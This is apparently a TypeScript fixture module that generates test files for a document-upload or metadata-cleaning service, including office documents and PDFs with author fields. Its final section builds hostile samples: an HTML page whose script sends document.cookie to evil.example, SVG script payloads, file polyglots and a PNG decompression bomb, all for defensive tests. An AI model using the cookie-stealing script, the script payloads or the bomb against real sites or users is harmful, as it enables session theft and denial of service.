// Files for the document tests and bench:files, built here rather than committed: a DOCX and an ODT with
// an author, PDFs (small with an author, large like a scan), PNG, a JPEG base with room for EXIF (tests add
// GPS with exiftool, which mat2 depends on), and the hostile ones (executables, HTML, SVG with script,
// polyglots, truncated files).
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { createDeflate, crc32, deflateRawSync, deflateSync } from "node:zlib";

// ───────────────────────────── ZIP (for DOCX, XLSX, ODT) ─────────────────────────────

export type ZipEntry = { name: string; data: Buffer | string; store?: boolean };

/** A ZIP archive (deflated entries unless `store`), enough for office documents. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const raw = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, "utf8");
    const method = entry.store ? 0 : 8;
    const body = entry.store ? raw : deflateRawSync(raw);
    const name = Buffer.from(entry.name, "utf8");
    const crc = crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const centralDir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralDir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralDir, end]);
}

const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${body}`;
const escapeXml = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** A Word document whose properties name an author, a last editor and a company. */
export function docx(options: { text: string; author?: string; company?: string }): Buffer {
  const author = options.author ?? "";
  return zip([
    {
      name: "[Content_Types].xml",
      data: xml(
        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
          `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
          `<Default Extension="xml" ContentType="application/xml"/>` +
          `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
          `<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>` +
          `<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>` +
          `</Types>`,
      ),
    },
    {
      name: "_rels/.rels",
      data: xml(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
          `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>` +
          `<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>` +
          `<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/>` +
          `</Relationships>`,
      ),
    },
    {
      name: "word/document.xml",
      data: xml(
        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` +
          `<w:p><w:r><w:t>${escapeXml(options.text)}</w:t></w:r></w:p>` +
          `</w:body></w:document>`,
      ),
    },
    {
      name: "docProps/core.xml",
      data: xml(
        `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" ` +
          `xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" ` +
          `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">` +
          `<dc:title>Draft</dc:title><dc:creator>${escapeXml(author)}</dc:creator>` +
          `<cp:lastModifiedBy>${escapeXml(author)}</cp:lastModifiedBy><cp:revision>7</cp:revision>` +
          `<dcterms:created xsi:type="dcterms:W3CDTF">2026-01-02T03:04:05Z</dcterms:created>` +
          `</cp:coreProperties>`,
      ),
    },
    {
      name: "docProps/app.xml",
      data: xml(
        `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">` +
          `<Application>Microsoft Office Word</Application><Company>${escapeXml(options.company ?? "")}</Company>` +
          `</Properties>`,
      ),
    },
  ]);
}

// ───────────────────────────── PDF ─────────────────────────────

type PdfObject = string | Buffer;

/** Serialises numbered objects (1..n, the first being the catalog) with a correct cross-reference table. */
function pdfFile(objects: PdfObject[], info?: Record<string, string>): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = parts[0].length;
  const offsets: number[] = [];
  const all = [...objects];
  let infoRef = "";
  if (info) {
    const entries = Object.entries(info)
      .map(([k, v]) => `/${k} (${v.replace(/[()\\]/g, (c) => `\\${c}`)})`)
      .join(" ");
    all.push(`<< ${entries} >>`);
    infoRef = ` /Info ${all.length} 0 R`;
  }
  all.forEach((object, i) => {
    offsets.push(length);
    const head = Buffer.from(`${i + 1} 0 obj\n`, "latin1");
    const body = Buffer.isBuffer(object) ? object : Buffer.from(object, "latin1");
    const tail = Buffer.from("\nendobj\n", "latin1");
    parts.push(head, body, tail);
    length += head.length + body.length + tail.length;
  });
  const xref = [
    `xref\n0 ${all.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`),
    `trailer\n<< /Size ${all.length + 1} /Root 1 0 R${infoRef} >>\nstartxref\n${length}\n%%EOF\n`,
  ].join("");
  parts.push(Buffer.from(xref, "latin1"));
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, "latin1"),
    data,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

/** A one-page PDF with a line of text, and an author and creator in its document information. */
export function pdf(options: { text: string; author?: string; creator?: string }): Buffer {
  const content = Buffer.from(
    `BT /F1 18 Tf 72 720 Td (${options.text.replace(/[()\\]/g, (c) => `\\${c}`)}) Tj ET`,
    "latin1",
  );
  return pdfFile(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
      stream("", content),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ],
    options.author === undefined
      ? undefined
      : { Author: options.author, Creator: options.creator ?? "Writer", Title: "Draft" },
  );
}

/**
 * A PDF like a scanned document of about `bytes` in size: pages of text over a grey, slightly noisy
 * picture (deflated), which is what most large PDFs that coalitions send are.
 */
export function scanLikePdf(bytes: number, options: { author?: string } = {}): Buffer {
  const width = 850;
  const height = 1100;
  const page = (n: number) => {
    // Deterministic noise so that the picture compresses as poorly as a real scan.
    let seed = 0x9e3779b9 ^ (n * 2654435761);
    const pixels = Buffer.alloc(width * height);
    for (let i = 0; i < pixels.length; i++) {
      seed ^= seed << 13;
      seed ^= seed >>> 17;
      seed ^= seed << 5;
      pixels[i] = 200 + ((seed >>> 0) % 40);
    }
    return deflateSync(pixels, { level: 1 });
  };
  const sample = page(0).length;
  const pages = Math.max(1, Math.round(bytes / sample));
  const objects: PdfObject[] = ["<< /Type /Catalog /Pages 2 0 R >>", ""];
  const kids: string[] = [];
  for (let n = 0; n < pages; n++) {
    const base = objects.length + 1; // page object number
    kids.push(`${base} 0 R`);
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${base + 1} 0 R ` +
        `/Resources << /XObject << /Im1 ${base + 2} 0 R >> /Font << /F1 ${base + 3} 0 R >> >> >>`,
      stream(
        "",
        Buffer.from(`q 612 0 0 792 0 0 cm /Im1 Do Q BT /F1 14 Tf 72 720 Td (Page ${n + 1}) Tj ET`, "latin1"),
      ),
      stream(
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`,
        page(n),
      ),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    );
  }
  objects[1] = `<< /Type /Pages /Kids [${kids.join(" ")}] /Count ${pages} >>`;
  return pdfFile(objects, options.author ? { Author: options.author, Creator: "Scanner" } : undefined);
}

// ───────────────────────────── images ─────────────────────────────

function pngChunk(type: string, data: Buffer) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "latin1");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A small RGB PNG, optionally with a text chunk (PNG's own metadata). */
export function png(options: { width?: number; height?: number; text?: Record<string, string> } = {}) {
  const width = options.width ?? 16;
  const height = options.height ?? 16;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const rows = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++)
    for (let x = 0; x < width; x++) rows.set([x * 16, y * 16, 128], y * (width * 3 + 1) + 1 + x * 3);
  const text = Object.entries(options.text ?? {}).map(([k, v]) =>
    pngChunk("tEXt", Buffer.from(`${k}\0${v}`, "latin1")),
  );
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    ...text,
    pngChunk("IDAT", deflateSync(rows)),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A 32×24 JPEG (JFIF, no EXIF), made once with GdkPixbuf; tests add EXIF to copies with exiftool. */
export const JPEG_BASE = Buffer.from(
  "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAoHBwgHBgoICAgLCgoLDhgQDg0NDh0VFhEYIx8lJCIfIiEmKzcvJik0KSEiMEExNDk7Pj4+JS5ESUM8SDc9Pjv/2wBDAQoLCw4NDhwQEBw7KCIoOzs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozv/wAARCAAYACADASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwDB8EW/+r49K3PiXIpn0CxVvmRZZXXHYlQpz/wFqreCLf8A1fHpR48lFz48ggUMBa2ccZB6ZJZ8j8GH5U5boIbNrt/wDrPBUIVUYjgDNefeEvNvLprmYlpZnMjsSSSxOSea7pSLTwRq85dUK2EoVmIHzFCB19yK5PwRb/6vj0oXxv0/z/yF9k2vBFv/AKvj0rB1WUX/AMRdWmCgbbgQ8HP+rUJ/7LRRTt71xpLkfy/U6bxY623w2vELlGuHhiTGeT5isRx7Kao+CLf/AFfHpRRSju/66DnG0Y+av+LX6H//2Q==",
  "base64",
);

// ───────────────────────────── office documents other than DOCX ─────────────────────────────

/** An OpenDocument text (kind "text") or spreadsheet ("spreadsheet") with an initial creator in meta.xml. */
export function odf(kind: "text" | "spreadsheet", options: { author?: string } = {}): Buffer {
  const mimetype = `application/vnd.oasis.opendocument.${kind}`;
  const body =
    kind === "text"
      ? "<office:text><text:p>Hello</text:p></office:text>"
      : '<office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>';
  const ns =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ' +
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" ' +
    'xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3"';
  return zip([
    { name: "mimetype", data: mimetype, store: true },
    {
      name: "META-INF/manifest.xml",
      data: xml(
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">' +
          `<manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>` +
          '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>' +
          '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>' +
          "</manifest:manifest>",
      ),
    },
    {
      name: "content.xml",
      data: xml(
        `<office:document-content ${ns}><office:body>${body}</office:body></office:document-content>`,
      ),
    },
    {
      name: "meta.xml",
      data: xml(
        `<office:document-meta ${ns}><office:meta><meta:initial-creator>${escapeXml(options.author ?? "")}</meta:initial-creator>` +
          `<dc:creator>${escapeXml(options.author ?? "")}</dc:creator><meta:generator>LibreOffice/7.4</meta:generator></office:meta></office:document-meta>`,
      ),
    },
  ]);
}

/** An Excel workbook with one cell and a creator. */
export function xlsx(options: { author?: string } = {}): Buffer {
  return zip([
    {
      name: "[Content_Types].xml",
      data: xml(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
          '<Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
          "</Types>",
      ),
    },
    {
      name: "_rels/.rels",
      data: xml(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>' +
          '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>' +
          "</Relationships>",
      ),
    },
    {
      name: "xl/workbook.xml",
      data: xml(
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
          '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: xml(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
          "</Relationships>",
      ),
    },
    {
      name: "xl/worksheets/sheet1.xml",
      data: xml(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
      ),
    },
    {
      name: "docProps/core.xml",
      data: xml(
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">' +
          `<dc:creator>${escapeXml(options.author ?? "")}</dc:creator></cp:coreProperties>`,
      ),
    },
  ]);
}

// ───────────────────────────── hostile files ─────────────────────────────

/** The start of a Windows executable (DOS header pointing at a PE header), padded. */
export function windowsExecutable(): Buffer {
  const exe = Buffer.alloc(1024);
  exe.write("MZ", 0, "latin1");
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write("PE\0\0", 0x80, "latin1");
  exe.writeUInt16LE(0x14c, 0x84); // i386
  exe.write("This program cannot be run in DOS mode.", 0x4e, "latin1");
  return exe;
}

/** The start of a Linux ELF executable. */
export function elfExecutable(): Buffer {
  const elf = Buffer.alloc(512);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(elf);
  elf.writeUInt16LE(2, 16); // ET_EXEC
  elf.writeUInt16LE(0x3e, 18); // x86-64
  return elf;
}

export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>\n',
);

export const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n',
);

export const SVG_WITH_XML_DECLARATION = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="10" height="10"></svg>\n',
);

/** A real PDF with a ZIP archive appended: PDF readers and ZIP readers both open it. */
export function pdfZipPolyglot(): Buffer {
  return Buffer.concat([pdf({ text: "Invoice" }), zip([{ name: "payload.js", data: "WScript.Echo(1)" }])]);
}

/** A JPEG with an HTML page appended after its end. */
export function jpegHtmlPolyglot(): Buffer {
  return Buffer.concat([JPEG_BASE, HTML_PAGE]);
}

/** A plain ZIP archive. */
export function zipArchive(): Buffer {
  return zip([{ name: "notes.txt", data: "hello" }]);
}

/** The first part of a PDF, as left by a download that stopped halfway. */
export function truncatedPdf(): Buffer {
  const whole = scanLikePdf(200_000);
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/**
 * A PNG of half a megabyte that claims 23,000 × 23,000 grey pixels (all zero): rebuilding it takes
 * gigabytes (a decompression bomb).
 */
export async function pngBomb(side = 23_000): Promise<Buffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Buffer.alloc(side + 1);
  async function* rows() {
    for (let y = 0; y < side; y++) yield row;
  }
  const parts: Buffer[] = [];
  await pipeline(
    Readable.from(rows()),
    createDeflate({ level: 9 }),
    async (source: AsyncIterable<Buffer>) => {
      for await (const chunk of source) parts.push(chunk);
    },
  );
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", Buffer.concat(parts)),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}
